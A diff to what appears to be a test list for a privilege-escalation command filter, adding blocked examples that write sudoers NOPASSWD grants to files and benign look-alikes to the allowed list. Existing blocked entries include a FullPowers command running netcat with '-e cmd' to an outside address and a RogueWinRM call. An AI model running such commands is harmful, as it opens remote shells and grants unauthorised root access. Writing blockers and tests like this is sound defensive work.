@@ -110,6 +110,10 @@ BLOCKED = [
     # FullPowers gives a service account its privileges back; RogueWinRM impersonates SYSTEM.
     ("powershell", 'FullPowers -c "C:\\TOOLS\\nc64.exe 1.2.3.4 1337 -e cmd" -z'),
     ("powershell", ".\\RogueWinRM.exe -p C:\\Users\\Public\\nc64.exe"),
+    # a sudoers grant written to any file, staged for /etc/sudoers.d
+    ("posix", "printf '%s\\n' 'student ALL=(root) NOPASSWD: /usr/bin/id' > payload"),
+    ("posix", "echo 'mpd ALL=NOPASSWD: /usr/bin/mount' >> grants.txt"),
+    ("powershell", "echo '%wheel ALL=(ALL:ALL) ALL' > grants.txt"),
     # a script's own helper named for elevating what it is given
     ("posix", "request_sudo pmset -b displaysleep 20"),
     ("posix", "maybe_sudo make install"),
@@ -146,6 +150,8 @@ ALLOWED = [
     ("powershell", "Write-Output 'needs runas'"),
     ("posix", "./scripts/check_sudoers_docs.sh"),
     ("posix", "pseudo_random --seed 1"),
+    ("posix", "echo 'ALL=(x) is a sudoers form' > notes.txt"),
+    ("posix", "echo 'run ALL tests' > todo.txt"),
 ]
 
 
